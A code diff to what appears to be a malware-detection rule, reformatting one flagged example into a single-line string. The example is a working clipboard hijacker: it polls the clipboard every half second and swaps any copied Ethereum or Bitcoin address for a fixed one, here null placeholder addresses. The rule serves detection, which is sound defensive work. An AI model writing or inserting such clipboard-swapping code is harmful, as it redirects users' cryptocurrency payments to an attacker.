@@ -46,13 +46,7 @@ export default defineRule({
     flags: [
       {
         title: 'programs of the system read what was copied, and copy an address of the same chain',
-        code: `import { execFileSync } from 'node:child_process';
-const own = [[/^0x[a-fA-F0-9]{40}$/, '0x0000000000000000000000000000000000000000'], [/^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/, '1111111111111111111114oLvT2']];
-setInterval(() => {
-  const copied = execFileSync('pbpaste', { encoding: 'utf8' });
-  const found = own.find(([pattern]) => pattern.test(copied));
-  if (found) execFileSync('pbcopy', { input: found[1] });
-}, 500);`,
+        code: `import { execFileSync } from 'node:child_process';\nconst own = [[/^0x[a-fA-F0-9]{40}$/, '0x0000000000000000000000000000000000000000'], [/^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/, '1111111111111111111114oLvT2']];\nsetInterval(() => {\n  const copied = execFileSync('pbpaste', { encoding: 'utf8' });\n  const found = own.find(([pattern]) => pattern.test(copied));\n  if (found) execFileSync('pbcopy', { input: found[1] });\n}, 500);`,
       },
       {
         title: 'the clipboard is watched',
